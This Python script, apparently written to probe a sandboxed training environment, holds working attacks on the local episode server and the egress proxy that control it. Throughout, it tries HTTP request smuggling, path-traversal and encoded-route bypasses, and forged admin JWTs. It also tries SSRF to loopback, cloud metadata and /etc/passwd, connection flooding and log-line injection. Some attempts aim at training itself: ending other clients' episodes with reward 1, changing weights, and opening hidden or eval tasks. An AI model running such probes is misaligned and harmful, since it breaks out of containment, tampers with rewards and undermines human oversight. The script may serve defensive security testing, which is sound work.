"""Attempts at the two doors of the exchange folder: the swarm server's, and the way to the Internet."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import socket
import time

from probing import FACTS, attempt

SEEN = "/workspace/results/seen"
WAIT_S = 3.0
HEAD = b"Host: 127.0.0.1:8000\r\nAuthorization: Bearer sandbox\r\n"


def say(raw, *, port=8000, path=None, wait_s=WAIT_S):
    """Send bytes; return all that comes back until the other side ends or falls silent."""
    door = socket.socket(socket.AF_UNIX if path else socket.AF_INET)
    door.settimeout(wait_s)
    door.connect(path or ("127.0.0.1", port))
    back = b""
    try:
        door.sendall(raw)
        while piece := door.recv(65536):
            back += piece
            door.settimeout(0.4)
    except OSError:
        pass
    door.close()
    with open(SEEN, "ab") as file:
        file.write(back)
    return back


def ask(method, target, body=None, key="sandbox", more=b""):
    """Ask the server over the relay; return status and JSON."""
    data = body if isinstance(body, bytes) else b"" if body is None else json.dumps(body).encode()
    head = f"{method} {target} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\nConnection: close\r\n"
    back = say(head.encode() + more + b"Content-Length: %d\r\n\r\n" % len(data) + data)
    return status(back), back.partition(b"\r\n\r\n")[2]


def status(back):
    return int(back.split()[1]) if back.startswith(b"HTTP/") else 0


def passed(answers):
    """Return those that were not refused."""
    return {name: answer for name, answer in answers.items() if answer and not 400 <= answer < 600}


def lease(number=0):
    code, body = ask("POST", "/episodes", {"kind": "train", "task_id": FACTS["tasks"][number], "wait_s": 5})
    assert code == 200, (code, body)
    return json.loads(body)


@attempt("the control plane with the placeholder: job, engine, streams, samples, episodes, checkpoints, metrics")
def control_plane():
    asked = [("POST", "/job"), ("GET", "/job"), ("POST", "/engine/start"), ("POST", "/engine/stop"),
             ("POST", "/streams"), ("GET", "/samples"), ("GET", "/episodes"), ("GET", "/checkpoints"),
             ("GET", "/metrics"), ("GET", "/openapi.json"), ("DELETE", "/episodes"),
             ("PUT", "/job"), ("OPTIONS", "/job"), ("HEAD", "/samples"), ("PATCH", "/job")]  # fmt: skip
    return passed({f"{method} {path}": ask(method, path, {})[0] for method, path in asked})


@attempt("the control plane with the model key and the lease key of one's own episode")
def control_plane_with_episode_keys():
    mine = lease()
    answers = {}
    for key in (mine["api_key"], mine["lease_token"]):
        for method, path in (("POST", "/job"), ("POST", "/engine/stop"), ("GET", "/samples"), ("GET", "/status"),
                             ("POST", "/streams"), ("GET", f"/episodes/{mine['episode_id']}")):  # fmt: skip
            answers[f"{key[-4:]} {method} {path}"] = ask(method, path, {}, key)[0]
        answers[f"{key[-4:]} begin"] = ask("POST", "/episodes", {"task_id": FACTS["tasks"][0]}, key)[0]
    answers["model key ends"] = ask("POST", f"/episodes/{mine['episode_id']}/end", {"reward": 1}, mine["api_key"])[0]
    answers["lease key speaks"] = ask("POST", "/v1/chat/completions", {"model": "fake", "messages": []},
                                      mine["lease_token"])[0]  # fmt: skip
    ask("POST", f"/episodes/{mine['episode_id']}/abort", {}, mine["lease_token"])
    return passed(answers)


@attempt("the end, abort and heartbeat of another client's episode, with the placeholder and with one's own lease key")
def episodes_of_others():
    mine, answers = lease(), {}
    for key in ("sandbox", mine["lease_token"], mine["api_key"]):
        for verb in ("end", "abort", "heartbeat", "commit", "prepare"):
            answers[f"{key[-4:]} {verb}"] = ask("POST", f"/episodes/{FACTS['other_episode']}/{verb}",
                                                {"reward": 1.0}, key)[0]  # fmt: skip
    ask("POST", f"/episodes/{mine['episode_id']}/abort", {}, mine["lease_token"])
    return passed(answers)


@attempt("episodes of another kind, or of tasks that were not given, also by keys told twice, escaped or encoded")
def episodes_not_given():
    task = json.dumps(FACTS["tasks"][0])
    hidden = json.dumps(FACTS["hidden_task"])
    bodies = {
        "eval": f'{{"kind":"eval","task_id":{task}}}',
        "eval of the hidden": f'{{"kind":"eval","task_id":{hidden}}}',
        "hidden": f'{{"kind":"train","task_id":{hidden}}}',
        "kind twice": f'{{"kind":"train","kind":"eval","task_id":{task}}}',
        "task twice": f'{{"task_id":{task},"task_id":{hidden}}}',
        "escaped": f'{{"\\u006bind":"eval","task_id":{task}}}',
        "upper case": f'{{"Kind":"eval","task_id":{task}}}',
        "list": f'[{{"kind":"eval","task_id":{task}}}]',
        "two documents": f'{{"task_id":{task}}}{{"kind":"eval","task_id":{hidden}}}',
        "nothing": "",
        "null kind": f'{{"kind":null,"task_id":{task}}}',
        "list of tasks": f'{{"task_id":[{task},{hidden}]}}',
        "deep": "[" * 5000 + "]" * 5000,
    }
    answers = {name: ask("POST", "/episodes", body.encode())[0] for name, body in bodies.items()}
    for encoding in ("utf-16", "utf-8-sig", "utf-32"):
        answers[encoding] = ask("POST", "/episodes", bodies["eval"].encode(encoding))[0]
    answers["compressed"] = ask("POST", "/episodes", b"\x1f\x8b", more=b"Content-Encoding: gzip\r\n")[0]
    for path in ("/episodes/", "/episodes?kind=eval", "//episodes", "/episodes;x", "/EPISODES", "/%65pisodes"):
        answers[path] = ask("POST", path, bodies["eval"].encode())[0]
    return passed(answers)


@attempt("a task list, a stream or a weight that was not given, or a begin that leaves the choice among others")
def what_changes_the_learning():
    mine, task, hidden = lease(), FACTS["tasks"][0], FACTS["hidden_task"]
    digest = hashlib.sha256(b"".join(len(id).to_bytes(4, "big") + id.encode() for id in [hidden])).hexdigest()
    asked = {
        "list of the hidden": ("/streams/tasks", {"digest": digest, "count": 1, "ids": [hidden]}),
        "list of another stream": ("/streams/tasks", {"stream": "mine", "digest": digest, "count": 1, "ids": [hidden]}),
        "list without a digest": ("/streams/tasks", {"count": 1, "ids": [hidden]}),
        "list escaped": ("/streams/tasks", b'{"\\u0064igest":"%b","count":1}' % digest.encode()),
        "choice among others": ("/episodes", {"tasks": digest}),
        "choice and the hidden": ("/episodes", {"tasks": digest, "task_id": hidden}),
        "another stream": ("/episodes", {"task_id": task, "stream": "mine"}),
        "no stream": ("/episodes", {"task_id": task, "stream": None}),
    }
    answers = {name: ask("POST", path, body)[0] for name, (path, body) in asked.items()}
    end = f"/episodes/{mine['episode_id']}/end"
    for weight in (0, 1e6, -1, "1", None):
        answers[f"weight {weight}"] = ask("POST", end, {"reward": 1.0, "weight": weight}, mine["lease_token"])[0]
    twice = b'{"reward":1.0,"weight":1.0,"weight":9.0}'
    answers["weight twice"] = ask("POST", end, twice, mine["lease_token"])[0]
    ask("POST", f"/episodes/{mine['episode_id']}/abort", {}, mine["lease_token"])
    return passed(answers)


@attempt(
    "a forbidden route by another spelling: dots, double slashes, percent signs, absolute form, fragments, headers"
)
def spellings():
    targets = ["//job", "/./job", "/v1/../job", "/v1/models/../../job", "/%6aob", "/job/", "/JOB", "/job%00", "/job;x",
               "/job?x=1", "/status/..%2fjob", "/status#/../job", "\\job", "/\\job", "/%2e%2e/job", "job", "*",
               "http://127.0.0.1:8000/job", "http://x@127.0.0.1/job", "/episodes/x/end/../../../job",
               "/health\t/job", "/status/../samples", "/.//samples", "/v1/models/..;/samples"]  # fmt: skip
    answers = {target: ask("GET", target)[0] for target in targets}
    for name in (b"X-HTTP-Method-Override: POST", b"X-Original-URL: /job", b"X-Rewrite-URL: /job",
                 b"X-Forwarded-Host: x", b"Forwarded: for=127.0.0.1"):  # fmt: skip
        _, body = ask("GET", "/health", more=name + b"\r\n")
        answers[name.decode()] = 200 if b"backend" in body else 0
    return passed(answers)


@attempt(
    "a second request hidden in the first: two lengths, length and chunks, bare line feeds, folded headers, pipelines"
)
def smuggled_requests():
    stop = b"POST /engine/stop HTTP/1.1\r\n" + HEAD + b"Content-Length: 0\r\n\r\n"
    post = b"POST /v1/models HTTP/1.1\r\n" + HEAD
    tries = {
        "length and chunks": post + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + stop,
        "two lengths": post + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(stop) + stop,
        "lengths in a list": post + b"Content-Length: 0, %d\r\n\r\n" % len(stop) + stop,
        "signed length": post + b"Content-Length: +0\r\n\r\n" + stop,
        "chunks spelled": post + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + stop,
        "chunks twice": post + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + stop,
        "chunks in a tab": post + b"Transfer-Encoding:\tchunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n" + stop,
        "space before colon": post + b"Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n" + stop,
        "bare line feeds": post.replace(b"\r\n", b"\n") + b"Content-Length: 0\n\n" + stop,
        "carriage return alone": post + b"X: a\rContent-Length: 9\r\n\r\n" + stop,
        "folded": post + b"X: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n" + stop,
        "zero byte": post + b"X: a\0\r\nContent-Length: 0\r\n\r\n" + stop,
        "bad chunk": post + b"Transfer-Encoding: chunked\r\n\r\n5;a=\n\r\n" + stop,
        "large chunk": post + b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n" + stop,
        "trailers": post + b"Transfer-Encoding: chunked\r\n\r\n0\r\nHost: y\r\n\r\n" + stop,
        "pipeline": b"GET /health HTTP/1.1\r\n" + HEAD + b"\r\n" + stop,
        "body of a GET": b"GET /health HTTP/1.1\r\n" + HEAD + b"Content-Length: %d\r\n\r\n" % len(stop) + stop,
        "upgrade": b"GET /health HTTP/1.1\r\n" + HEAD + b"Connection: upgrade\r\nUpgrade: h2c\r\n\r\n" + stop,
        "http/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + stop,
        "http/0.9": b"GET /job\r\n\r\n",
        "connect": b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n" % FACTS["port"] + HEAD + b"\r\n" + stop,
    }
    for path in (None, "/run/ajet/server.sock"):
        for raw in tries.values():
            say(raw, path=path, wait_s=1.0)


@attempt("an admin's key, guessed or forged (empty, null, unsigned, signed with nothing)")
def forged_keys():
    def part(value):
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

    claims = part({"use": "role", "role": "admin", "exp": 4102444800})
    keys = ["", "null", "admin", "undefined", f"{part({'alg': 'none'})}.{claims}.",
            f"{part({'alg': 'HS256', 'typ': 'JWT'})}.{claims}.{'A' * 43}"]  # fmt: skip
    return passed({key[:12]: ask("POST", "/engine/stop", {}, key)[0] for key in keys})


@attempt("the door's memory and patience: large heads and bodies, slow senders, connections without end")
def flood():
    big = b"POST /v1/chat/completions HTTP/1.1\r\n" + HEAD
    chunk = b"%x\r\n" % (1 << 20) + b"x" * (1 << 20) + b"\r\n"
    answers = {
        "head": status(say(b"GET /health HTTP/1.1\r\n" + HEAD + b"X: " + b"x" * (1 << 20) + b"\r\n\r\n")),
        "headers": status(say(b"GET /health HTTP/1.1\r\n" + HEAD + b"X: y\r\n" * 5000 + b"\r\n")),
        "announced": status(say(big + b"Content-Length: 99999999999\r\n\r\n")),
        "chunked": status(say(big + b"Transfer-Encoding: chunked\r\n\r\n" + 20 * chunk)),
        "begin": ask("POST", "/episodes", b'{"task_id":"' + b"x" * (2 << 20) + b'"}')[0],
    }  # fmt: skip
    kept = []
    for path in ("/run/ajet/server.sock", "/run/ajet/egress.sock"):
        for _ in range(450):
            try:
                door = socket.socket(socket.AF_UNIX)
                door.connect(path)
                door.settimeout(0.5)
                door.send(b"GET /status HTTP/1.1\r\nHost")
                kept.append(door)
            except OSError:
                break
    time.sleep(FACTS["hold_s"])
    return passed(answers)


def egress(raw):
    return status(say(raw, port=3128, wait_s=2.0))


@attempt(
    "the way out past its list: other ports, addresses in every spelling, names that mean this machine, users, tricks"
)
def way_out():
    port = FACTS["port"]
    hosts = ["127.0.0.1", "localhost", "127.1", "2130706433", "0x7f000001", "017700000001", "0", "0.0.0.0", "[::1]",
             "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "169.254.169.254", "[fd00:ec2::254]", "127.0.0.1.",
             "localhost.", "LOCALHOST", "allowed.example@127.0.0.1", "127.0.0.1#allowed.example",
             "127.0.0.1%2f.allowed.example", "allowed.example.127.0.0.1.nip.io", "192.168.0.1", "10.0.0.1",
             "\u2460\u2461\u2466.0.0.1", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", *FACTS["addresses"]]  # fmt: skip
    answers = {}
    for host in hosts:
        host = f"[{host}]" if host.count(":") > 1 and not host.startswith("[") else host
        name = host.encode("utf-8")
        answers[f"CONNECT {host}"] = egress(b"CONNECT %b:%d HTTP/1.1\r\nHost: allowed.example\r\n\r\n" % (name, port))
        answers[f"GET {host}"] = egress(b"GET http://%b:%d/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n" % (name, port))
    answers["no port"] = egress(b"CONNECT allowed.example HTTP/1.1\r\nHost: x\r\n\r\n")
    answers["another port"] = egress(b"CONNECT allowed.example:22 HTTP/1.1\r\nHost: x\r\n\r\n")
    answers["the list's name"] = egress(b"CONNECT allowed.example:443 HTTP/1.1\r\nHost: x\r\n\r\n")
    answers["origin form"] = egress(b"GET / HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % port)
    answers["file"] = egress(b"GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n")
    answers["two lines"] = egress(b"CONNECT allowed.example:443\r\nX: y HTTP/1.1\r\nHost: x\r\n\r\n")
    return passed(answers)


@attempt("a second request on a way out that was allowed, to another host")
def way_out_used_again():
    good, port = FACTS["allowed"], FACTS["port"]
    first = b"GET http://%b/ HTTP/1.1\r\nHost: %b\r\n\r\n" % (good.encode(), good.encode())
    second = b"GET http://127.0.0.1:%d/ HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % (port, port)
    back = say(first + second, port=3128) + say(first.replace(b"\r\n\r\n", b"\r\nX: y\r\n\r\n") + second, port=3128)
    return FACTS["forbidden_words"].encode() in back


@attempt("lines of one's own in the log of the way out")
def forged_log_lines():
    egress(b'CONNECT a","verdict":"allowed"}\r\n{"host":"b:443 HTTP/1.1\r\nHost: x\r\n\r\n')
    egress(b'CONNECT x\x85y\x0bz"}{:443 HTTP/1.1\r\nHost: x\r\n\r\n')
    os.makedirs("/workspace/results", exist_ok=True)
